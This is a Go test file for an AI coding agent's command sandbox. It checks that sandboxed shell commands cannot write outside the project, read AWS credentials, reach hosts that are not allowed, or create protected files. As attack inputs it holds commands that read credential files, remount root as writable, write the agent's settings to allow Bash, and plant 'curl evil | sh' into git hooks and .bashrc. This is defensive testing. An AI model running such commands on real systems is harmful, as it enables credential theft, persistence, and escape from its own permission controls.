package sandbox

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/strata-agent/strata/internal/proc"
)

// world is a project, a home holding credentials inside it (so that only the sandbox's own
// rule hides them: the project is writable and visible), and an active sandbox.
type world struct {
	project, home, outside string
	sb                     *Sandbox
}

func newWorld(t *testing.T, cfg Config, excluded func(string) bool) *world {
	t.Helper()
	st := Probe(context.Background())
	if !st.Available {
		t.Skipf("no sandbox here: %s (%s)", st.Reason, st.Fix)
	}
	w := &world{project: t.TempDir(), outside: t.TempDir()}
	w.home = filepath.Join(w.project, "home")
	must(t, os.MkdirAll(filepath.Join(w.home, ".aws"), 0o700))
	must(t, os.WriteFile(filepath.Join(w.home, ".aws", "credentials"), []byte("aws_secret_access_key=TOPSECRET\n"), 0o600))
	cfg.Enabled = true
	w.sb = New(cfg, st, Options{Dirs: []string{w.project}, Home: w.home, Excluded: excluded})
	t.Cleanup(w.sb.Close)
	return w
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// run runs a shell line as the Bash tool would: through For and proc.
func (w *world) run(t *testing.T, line string) (string, proc.Result) {
	t.Helper()
	out := proc.NewCapture(20000, 0)
	res := proc.Run(context.Background(), proc.Cmd{Argv: []string{"/bin/sh", "-c", line}, Dir: w.project,
		Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + w.home}, Output: out,
		Timeout: 30 * time.Second, Wrapper: w.sb.For(line, false).Wrapper})
	if res.StartErr != nil {
		t.Fatalf("%s: %v", line, res.StartErr)
	}
	return out.String(), res
}

func TestSandboxKeepsWritesInsideTheProject(t *testing.T) {
	w := newWorld(t, Config{}, nil)
	out, res := w.run(t, "echo ok > inside.txt && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"")
	if res.ExitCode != 0 || strings.TrimSpace(out) != "tmp" {
		t.Fatalf("writing inside the project and TMPDIR failed: %v %q", res.Err(), out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.project, "inside.txt")); string(b) != "ok\n" {
		t.Fatalf("the project file is %q", b)
	}
	etc := fmt.Sprintf("/etc/strata-sandbox-test-%d", os.Getpid())
	outside := filepath.Join(w.outside, "escaped")
	for _, target := range []string{etc, outside, filepath.Join(w.project, ".git", "hooks", "pre-commit")} {
		if target == filepath.Join(w.project, ".git", "hooks", "pre-commit") {
			must(t, os.MkdirAll(filepath.Dir(target), 0o755))
		}
		out, res := w.run(t, "echo pwned > "+target)
		if _, err := os.Stat(target); err == nil {
			os.Remove(target)
			t.Fatalf("a sandboxed command wrote %s (%v, %q)", target, res.Err(), out)
		}
		if res.ExitCode == 0 {
			t.Errorf("writing %s should fail: %q", target, out)
		}
	}
	if out, _ := w.run(t, "echo x > /etc/x"); w.sb.Explain(out) == "" {
		t.Errorf("a read-only failure should be explained as the sandbox's: %q", out)
	}
	if out, res := w.run(t, "mount -o remount,rw / 2>&1; touch /strata-sandbox-remount && echo escaped"); strings.Contains(out, "escaped") || res.ExitCode == 0 {
		os.Remove("/strata-sandbox-remount")
		t.Fatalf("remounting the root writable worked: %q", out)
	}
}

func TestSandboxHidesCredentials(t *testing.T) {
	w := newWorld(t, Config{}, nil)
	out, res := w.run(t, "cat \"$HOME/.aws/credentials\"")
	if strings.Contains(out, "TOPSECRET") || res.ExitCode == 0 {
		t.Fatalf("a sandboxed command read the AWS credentials: %q (%v)", out, res.Err())
	}
	if out, _ := w.run(t, "ls -A \"$HOME/.aws\""); out != "" {
		t.Fatalf("a sandboxed command listed the credential directory: %q", out)
	}
	// Without the sandbox the same command reads them: the test can fail.
	w.sb.SetOn(false)
	if out, _ := w.run(t, "cat \"$HOME/.aws/credentials\""); !strings.Contains(out, "TOPSECRET") {
		t.Fatalf("the control run should read the file: %q", out)
	}
}

func TestSandboxNetworkOnlyThroughTheProxy(t *testing.T) {
	hello := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "hello from the allowed server") })
	allowed := httptest.NewServer(hello)
	defer allowed.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "LEAKED") }))
	defer other.Close()
	if _, err := proc.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	w := newWorld(t, Config{AllowedDomains: []string{"localhost"}}, nil)
	allowedURL := strings.Replace(allowed.URL, "127.0.0.1", "localhost", 1)
	const curl = "env -u NO_PROXY -u no_proxy curl -sS --max-time 10 "
	cases := []struct {
		name, line, want string
	}{
		{"allowed host, plain HTTP", curl + allowedURL, "hello from the allowed server"},
		{"allowed host, CONNECT tunnel", curl + "-p " + allowedURL, "hello from the allowed server"},
		{"other host through the proxy", curl + other.URL, deniedMarker},
		{"other host, CONNECT tunnel", curl + "-p " + other.URL, "CONNECT tunnel failed"},
		{"other host, straight", "curl -sS --noproxy '*' --max-time 5 " + other.URL, "Couldn't connect"},
	}
	for _, tc := range cases {
		out, _ := w.run(t, tc.line+" 2>&1")
		if !strings.Contains(out, tc.want) || (tc.want != "hello from the allowed server" && strings.Contains(out, "LEAKED")) {
			t.Errorf("%s: want %q in %q", tc.name, tc.want, out)
		}
	}
}

func TestExcludedCommandsRunOutside(t *testing.T) {
	w := newWorld(t, Config{ExcludedCommands: []string{"touch"}}, func(c string) bool { return strings.HasPrefix(c, "touch ") })
	target := filepath.Join(w.outside, "made-outside")
	if w.sb.For("touch "+target, false).Sandboxed() || !w.sb.For("echo hi", false).Sandboxed() {
		t.Fatal("only the excluded command should run outside")
	}
	if out, res := w.run(t, "touch "+target); res.ExitCode != 0 {
		t.Fatalf("the excluded command failed: %q", out)
	}
	if _, err := os.Stat(target); err != nil {
		t.Fatalf("the excluded command did not run outside the sandbox: %v", err)
	}
}

func TestUnsandboxedRetryFollowsPolicy(t *testing.T) {
	st := Status{Available: true, Bwrap: "/usr/bin/bwrap", Socat: "/usr/bin/socat"}
	open := New(Config{Enabled: true, AllowUnsandboxed: true, AutoAllowBash: true}, st, Options{})
	if open.For("ls", true).Sandboxed() || !open.AsksOutside(true) || open.AutoAllow("ls", true) || !open.AutoAllow("ls", false) {
		t.Error("with allowUnsandboxedCommands the retry runs outside, asks, and is not auto-allowed")
	}
	closed := New(Config{Enabled: true, AllowUnsandboxed: false}, st, Options{})
	if d := closed.For("ls", true); !d.Sandboxed() || d.Note == "" || closed.AsksOutside(true) {
		t.Error("without allowUnsandboxedCommands dangerouslyDisableSandbox is ignored, with a note")
	}
	forced := New(Config{Enabled: true, Forced: true}, st, Options{})
	if forced.SetOn(false) == nil || !forced.Active() {
		t.Error("managed settings keep the sandbox on")
	}
	if (&Sandbox{}).For("ls", false).Sandboxed() || New(Config{Enabled: true}, Status{}, Options{}).For("ls", false).Sandboxed() {
		t.Error("an unavailable or disabled sandbox wraps nothing")
	}
}

func TestSandboxCannotCreateProtectedPaths(t *testing.T) {
	w := newWorld(t, Config{}, nil)
	w.sb.opts.Protected = []string{".git", ".claude", ".mcp.json", ".bashrc"}
	attempts := map[string]string{
		".claude/settings.local.json": `mkdir -p .claude; echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json`,
		".mcp.json":                   `echo '{"mcpServers":{}}' > .mcp.json`,
		".git/hooks/pre-commit":       `mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit`,
		"home/.bashrc":                `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
	}
	for target, line := range attempts {
		out, res := w.run(t, line+" 2>&1")
		if b, err := os.ReadFile(filepath.Join(w.project, target)); err == nil {
			t.Errorf("%s: a sandboxed command created %s (%q): %q", line, target, b, out)
		}
		if res.ExitCode == 0 {
			t.Errorf("%s should fail: %q", line, out)
		}
	}
	// The placeholders are gone once no command runs, and nothing else was left behind.
	for _, p := range []string{".claude", ".mcp.json", ".git", "home/.bashrc"} {
		if _, err := os.Lstat(filepath.Join(w.project, p)); err == nil {
			t.Errorf("%s was left in the project", p)
		}
	}
	// A .git that exists keeps its hooks read-only, but git can still write its objects.
	must(t, os.MkdirAll(filepath.Join(w.project, ".git", "objects"), 0o755))
	if out, res := w.run(t, "echo x > .git/objects/o && echo hook > .git/hooks/post-checkout 2>&1"); res.ExitCode == 0 {
		t.Errorf("writing a git hook should fail: %q", out)
	}
	if _, err := os.Stat(filepath.Join(w.project, ".git", "objects", "o")); err != nil {
		t.Errorf("git's objects should stay writable: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(w.project, ".git", "hooks")); err == nil {
		t.Error("the hooks placeholder was left behind")
	}
	// Nor can the whole .git be carried away and a fresh one, with hooks, put in its place.
	w.run(t, "mv .git .git-old; mkdir -p .git/hooks && echo hook > .git/hooks/pre-commit")
	if _, err := os.Stat(filepath.Join(w.project, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("a sandboxed command replaced .git and planted a hook")
	}
	if _, err := os.Stat(filepath.Join(w.project, ".git", "objects", "o")); err != nil {
		t.Errorf("the original .git should still be in place: %v", err)
	}
	// Without the sandbox the same command writes the file: the test can fail.
	w.sb.SetOn(false)
	if _, res := w.run(t, attempts[".mcp.json"]); res.ExitCode != 0 {
		t.Fatal("the control run should write .mcp.json")
	}
}

func TestSandboxHidesStateWhereverItIs(t *testing.T) {
	w := newWorld(t, Config{}, nil)
	state := filepath.Join(w.project, "elsewhere", "state")
	must(t, os.MkdirAll(state, 0o700))
	must(t, os.WriteFile(filepath.Join(state, "trusted-folders.json"), []byte("SECRETSTATE"), 0o600))
	claudeJSON := filepath.Join(w.project, "cfg", ".claude.json")
	must(t, os.MkdirAll(filepath.Dir(claudeJSON), 0o700))
	must(t, os.WriteFile(claudeJSON, []byte("SECRETSTATE"), 0o600))
	must(t, os.MkdirAll(filepath.Join(state, "projects"), 0o700))
	// A hidden path inside another (the transcripts in the configuration directory) must not
	// stop every command: it is hidden with its parent.
	w.sb.opts.Hidden = []string{state, filepath.Join(state, "projects"), claudeJSON}
	if out, res := w.run(t, "echo fine"); res.ExitCode != 0 {
		t.Fatalf("nested hidden paths broke the sandbox: %q", out)
	}
	for _, line := range []string{"cat " + filepath.Join(state, "trusted-folders.json"), "cat " + claudeJSON,
		"echo '{}' > " + claudeJSON + "; cat " + claudeJSON} {
		if out, _ := w.run(t, line+" 2>&1"); strings.Contains(out, "SECRETSTATE") {
			t.Errorf("%s read strata's state: %q", line, out)
		}
	}
	if b, _ := os.ReadFile(claudeJSON); string(b) != "SECRETSTATE" {
		t.Errorf("a sandboxed command rewrote %s: %q", claudeJSON, b)
	}
}

func TestSandboxPromptNote(t *testing.T) {
	st := Status{Available: true, Bwrap: "/usr/bin/bwrap", Socat: "/usr/bin/socat"}
	on := New(Config{Enabled: true, AllowUnsandboxed: true, AllowedDomains: []string{"github.com"}}, st, Options{})
	if n := on.PromptNote(); !strings.Contains(n, "github.com") || !strings.Contains(n, "dangerouslyDisableSandbox") {
		t.Errorf("the note should name the allowed hosts and the way out: %q", n)
	}
	if n := New(Config{Enabled: true}, st, Options{}).PromptNote(); strings.Contains(n, "dangerouslyDisableSandbox") {
		t.Errorf("with unsandboxed commands forbidden the note must not offer the way out: %q", n)
	}
	if New(Config{}, st, Options{}).PromptNote() != "" || New(Config{Enabled: true}, Status{}, Options{}).PromptNote() != "" {
		t.Error("an inactive sandbox says nothing")
	}
}
